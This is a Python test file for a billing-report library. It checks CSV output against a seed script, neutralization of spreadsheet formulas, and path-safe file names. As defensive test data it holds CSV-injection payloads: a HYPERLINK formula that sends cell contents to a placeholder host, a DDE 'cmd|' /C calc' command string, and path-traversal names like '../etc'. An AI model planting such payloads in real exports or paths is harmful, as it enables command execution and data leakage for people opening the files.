"""Seed-parity CSVs, spreadsheet neutralization and path-safe names."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest

from rafay_billing.paths import safe_component
from rafay_billing.reports import (
    NCP_METRICS_HEADER,
    ncp_metrics_cells,
    ncp_metrics_file_names,
    neutralize,
    write_csv,
    write_ncp_metrics_csvs,
)
from rafay_billing.source.usage import ProfileRef, normalize_record
from rafay_billing.window import Window

ROWS = [
    ["Pepsi", "compute", "unsloth-finetune", "test-abc", "0.12", "running"],
    ["Coke", "service", "slurm-k8s", "test-mohan", "17.73", "stopped"],
    ["Coke", "compute", "managed-developer-pods-v2", "demo-serverless-pod", "286.59", "running"],
    ["Acme", "compute", "h110-small-vm", "nvidia-h100-8gpu-vm", "0.34", ""],
    ["acme", "compute", "a", "b", "1", "running"],
    ["Coke", "compute", "managed-developer-pods-v2", "Demo", "1", "running"],
]


def _seed_write(rows: list[list[str]], directory: Path) -> tuple[bytes, bytes]:
    """What the seed's main() and sort_csv() write for these rows (their code, on local files)."""
    unsorted_file, sorted_file = directory / "seed.csv", directory / "seed-sorted.csv"
    with open(unsorted_file, "w") as fd:  # the seed: open(filename, 'w'), csv.writer defaults
        writer = csv.writer(fd)
        writer.writerow(list(NCP_METRICS_HEADER))
        for row in rows:
            writer.writerow(row)
    with open(unsorted_file, newline="") as infile:
        reader = csv.reader(infile)
        header = next(reader, None)
        data = sorted([row for row in reader if row], key=lambda row: (row[0], row[1], row[2], row[3]))
    with open(sorted_file, "w", newline="") as outfile:
        writer = csv.writer(outfile)
        writer.writerow(header)
        writer.writerows(data)
    return unsorted_file.read_bytes(), sorted_file.read_bytes()


def test_ncp_metrics_csvs_are_byte_identical_to_the_seed_script(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    unsorted_path, sorted_path = write_ncp_metrics_csvs(ROWS, out, "09142025-075429")
    assert unsorted_path == out / "ncp-metrics-09142025-075429.csv"
    assert sorted_path == out / "ncp-metrics-sorted-09142025-075429.csv"
    seed_unsorted, seed_sorted = _seed_write(ROWS, tmp_path)
    assert unsorted_path.read_bytes() == seed_unsorted
    assert sorted_path.read_bytes() == seed_sorted
    assert seed_sorted.startswith(b"Organization,Profile Type,Profile,Instance,Usage(h),Status\r\n")
    order = [line.split(",")[0:4] for line in sorted_path.read_text().splitlines()[1:]]
    assert order[0][0] == "Acme" and order[-1][0] == "acme"  # plain string order: capitals first


def test_tricky_cells_match_the_seed_bytes(tmp_path: Path) -> None:
    rows = [
        ["Ünïcode Org, Inc.", "compute", 'quote "q"', "multi\nline", "1.5", "running"],
        ["Org", "", "p", "", "0", ""],
    ]
    unsorted_path, sorted_path = write_ncp_metrics_csvs(rows, tmp_path, datetime(2025, 9, 14, 7, 54, 29))
    seed_unsorted, seed_sorted = _seed_write(rows, tmp_path)
    assert unsorted_path.read_bytes() == seed_unsorted
    assert sorted_path.read_bytes() == seed_sorted


def test_formula_cells_are_neutralized_but_numbers_are_not(tmp_path: Path) -> None:
    rows = [
        ["=HYPERLINK(\"x\")", "+compute", "-p", "@inst", "-1.5", "-running"],
        ["Org", "compute", "p", "i", "=1+1", "running"],
    ]
    unsorted_path, sorted_path = write_ncp_metrics_csvs(rows, tmp_path, "01012026-000000")
    lines = list(csv.reader(io.StringIO(unsorted_path.read_bytes().decode(), newline="")))
    assert lines[1] == ["'=HYPERLINK(\"x\")", "'+compute", "'-p", "'@inst", "-1.5", "'-running"]
    assert lines[2][4] == "'=1+1"
    # the sort runs on the values, as the seed's does: "=..." (0x3D) sorts before "Org"
    sorted_lines = list(csv.reader(io.StringIO(sorted_path.read_bytes().decode(), newline="")))
    assert [r[0] for r in sorted_lines[1:]] == ["'=HYPERLINK(\"x\")", "Org"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=cmd", "'=cmd"), ("+1+2", "'+1+2"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
        ("-1.5", "-1.5"), ("+3", "+3"), ("-2e3", "-2e3"), ("-inf", "'-inf"), ("a=b", "a=b"),
        (Decimal("-1.50"), "-1.50"), (-2, "-2"), (None, ""), ("", ""), ("plain", "plain"),
    ],
)
def test_neutralize(cell: object, expected: str) -> None:
    assert neutralize(cell) == expected


# OWASP's CSV-injection list plus the full-width forms a spreadsheet reads as their ASCII twins
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[f"U+{ord(c):04X}" for c in FORMULA_STARTS])
def test_every_formula_start_is_prefixed(start: str) -> None:
    payload = start + "HYPERLINK(\"http://x.invalid/\"&A1)"
    assert neutralize(payload) == "'" + payload
    assert neutralize(start) == "'" + start  # the character alone
    assert neutralize("a" + payload) == "a" + payload  # only a leading one starts a formula


@pytest.mark.parametrize("start", ["\t", "\r", "\uff0b", "\uff0d"])
def test_numbers_behind_a_formula_start_other_than_an_ascii_sign_are_prefixed(start: str) -> None:
    assert neutralize(start + "1.5") == "'" + start + "1.5"


@pytest.mark.parametrize("cell", ["-\uff11\uff12", "-1.5\n", "+1 "])
def test_only_plain_ascii_numbers_escape_the_prefix(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


def test_full_width_and_control_starts_are_prefixed_in_the_written_file(tmp_path: Path) -> None:
    rows = [["\uff1dcmd|' /C calc'!A0", "\tcompute", "\r=1+1", "\uff20SUM(A1)", "-1.5", "\uff0dx"]]
    unsorted_path, _ = write_ncp_metrics_csvs(rows, tmp_path, "01012026-000000")
    [_, cells] = list(csv.reader(io.StringIO(unsorted_path.read_bytes().decode(), newline="")))
    assert cells == ["'\uff1dcmd|' /C calc'!A0", "'\tcompute", "'\r=1+1", "'\uff20SUM(A1)", "-1.5", "'\uff0dx"]


def test_write_csv_neutralizes_every_text_cell() -> None:
    buf = io.StringIO(newline="")
    assert write_csv(buf, ["a", "amount"], [["=x", Decimal("-3.00")], ["ok", None]]) == 2
    assert buf.getvalue() == "a,amount\r\n'=x,-3.00\r\nok,\r\n"


def test_ncp_metrics_cells_accept_rows_objects_and_mappings() -> None:
    window = Window.from_dict({"window_start": "2026-11-10T00:00:00Z", "window_end": "2026-11-11T00:00:00Z"})
    row = normalize_record(
        {"instance_name": "vm", "usage_hours": Decimal("1.50"), "status": "running"},
        window=window, org_id="coke", organization="Coke", org_seq=0, record_seq=0,
        profile=ProfileRef("p", "compute"),
    )
    expected = ["Coke", "compute", "p", "vm", "1.5", "running"]
    assert ncp_metrics_cells(row) == expected
    assert ncp_metrics_cells(dict(zip(NCP_METRICS_HEADER, expected, strict=True))) == expected
    mapping = {"organization": "Coke", "profile_type": "compute", "profile": "p", "instance": "vm",
               "seed_usage": "1.5", "status": "running"}
    assert ncp_metrics_cells(mapping) == expected
    assert ncp_metrics_cells(tuple(expected)) == expected


def test_write_ncp_metrics_csvs_with_an_open_text_callable() -> None:
    buffers: dict[str, io.StringIO] = {}

    class Keep(io.StringIO):
        def close(self) -> None:  # keep the text readable after the with-block
            pass

    def open_text(name: str) -> io.StringIO:
        buffers[name] = Keep(newline="")
        return buffers[name]

    names = write_ncp_metrics_csvs(ROWS[:2], open_text, "09142025-075429")
    assert names == ncp_metrics_file_names("09142025-075429")
    assert buffers[names[1]].getvalue().splitlines()[1].startswith("Coke,")


# --- streamed: the sorted copy handed over already sorted (publish_reports) -----------------------

TRICKY = ROWS + [
    ["Ünïcode Org, Inc.", "compute", 'quote "q"', "multi\nline", "1.5", "running"],
    ["=Formula", "+compute", "-p", "@inst", "-1.5", "-running"],
    ["\uff1dFull", "compute", "p", "i", "=1+1", "running"],
    ["Coke", "compute", "managed-developer-pods-v2", "Demo", "2", "stopped"],  # ties the earlier "Demo" row
]


def _seed_sorted(rows: list[list[str]]) -> list[list[str]]:
    return sorted(rows, key=lambda row: (row[0], row[1], row[2], row[3]))  # stable, as the seed's


def test_streamed_ncp_metrics_csvs_are_byte_identical_to_the_seed_script(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    unsorted_path, sorted_path = write_ncp_metrics_csvs(
        iter(TRICKY), out, "09142025-075429", sorted_rows=iter(_seed_sorted(TRICKY)))
    held = tmp_path / "held"
    held.mkdir()
    held_unsorted, held_sorted = write_ncp_metrics_csvs(TRICKY, held, "09142025-075429")
    assert unsorted_path.read_bytes() == held_unsorted.read_bytes()
    assert sorted_path.read_bytes() == held_sorted.read_bytes()
    # The seed itself writes no escapes: compare with it on the rows that need none.
    plain = [r for r in TRICKY if not any(c.startswith(("=", "+", "-", "@", "\uff1d")) for c in r)]
    seed_unsorted, seed_sorted = _seed_write(plain, tmp_path)
    assert write_ncp_metrics_csvs(iter(plain), out, "01012026-000000", sorted_rows=iter(_seed_sorted(plain))) == (
        out / "ncp-metrics-01012026-000000.csv", out / "ncp-metrics-sorted-01012026-000000.csv")
    assert (out / "ncp-metrics-01012026-000000.csv").read_bytes() == seed_unsorted
    assert (out / "ncp-metrics-sorted-01012026-000000.csv").read_bytes() == seed_sorted


def test_streamed_ncp_metrics_csvs_write_each_row_before_reading_the_next() -> None:
    """Nothing is collected first: when row i+1 is asked for, row i is already in its file."""
    buffers: dict[str, io.StringIO] = {}

    class Keep(io.StringIO):
        def close(self) -> None:
            pass

    def open_text(name: str) -> io.StringIO:
        buffers[name] = Keep(newline="")
        return buffers[name]

    def lockstep(rows: list[list[str]], name: str):
        for i, row in enumerate(rows):
            if i:
                written = buffers[name].getvalue().count("\r\n") - 1  # minus the header
                assert written == i, f"row {i + 1} of {name} read with {written} rows written"
            yield row

    unsorted_name, sorted_name = ncp_metrics_file_names("09142025-075429")
    write_ncp_metrics_csvs(lockstep(ROWS, unsorted_name), open_text, "09142025-075429",
                           sorted_rows=lockstep(_seed_sorted(ROWS), sorted_name))
    assert buffers[sorted_name].getvalue().count("\r\n") == len(ROWS) + 1


def test_streamed_sorted_rows_out_of_order_fail_saying_why(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"out of order at row 2.*COLLATE \"C\""):
        write_ncp_metrics_csvs(iter(ROWS), tmp_path, "09142025-075429", sorted_rows=iter(ROWS))


def test_streamed_sorted_rows_that_are_not_the_unsorted_ones_fail(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="one snapshot"):
        write_ncp_metrics_csvs(iter(ROWS), tmp_path, "09142025-075429", sorted_rows=iter(_seed_sorted(ROWS)[:-1]))


def test_ncp_metrics_file_names_reject_other_stamps() -> None:
    with pytest.raises(ValueError, match="%m%d%Y-%H%M%S"):
        ncp_metrics_file_names("2026-01-01")


def test_write_ncp_metrics_csvs_works_with_object_storage_paths(tmp_path: Path) -> None:
    pytest.importorskip("airflow.sdk")
    from airflow.sdk import ObjectStoragePath

    out = ObjectStoragePath(f"file://{tmp_path}/reports")
    out.mkdir(parents=True, exist_ok=True)
    unsorted_path, sorted_path = write_ncp_metrics_csvs(ROWS, out, "09142025-075429")
    seed_unsorted, seed_sorted = _seed_write(ROWS, tmp_path)
    assert (tmp_path / "reports" / "ncp-metrics-09142025-075429.csv").read_bytes() == seed_unsorted
    assert (tmp_path / "reports" / "ncp-metrics-sorted-09142025-075429.csv").read_bytes() == seed_sorted
    assert str(sorted_path).endswith("ncp-metrics-sorted-09142025-075429.csv")


# --- safe_component ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["coke", "lk5xnd2", "h100-8gpu-vm", "a.b_c-D", "manual__2026-11-11T00.00.00"])
def test_safe_names_are_kept(name: str) -> None:
    assert safe_component(name) == name


@pytest.mark.parametrize(
    "name", ["", ".", "..", "../etc", "a/b", "a\\b", "Coke Inc.", "ü", "x" * 300, "manual__2026-11-11T00:00:00+00:00"]
)
def test_unsafe_names_are_cleaned_hashed_and_bounded(name: str) -> None:
    safe = safe_component(name)
    assert safe not in ("", ".", "..")
    assert all(c.isascii() and (c.isalnum() or c in "._-") for c in safe)
    assert len(safe) <= 100
    assert safe == safe_component(name)  # stable


def test_distinct_names_never_collide() -> None:
    names = ["a/b", "a_b", "a b", "a?b", "A/b", "..", ".", "", "x" * 300, "x" * 301, "ü", "ö"]
    assert len({safe_component(n) for n in names}) == len(names)
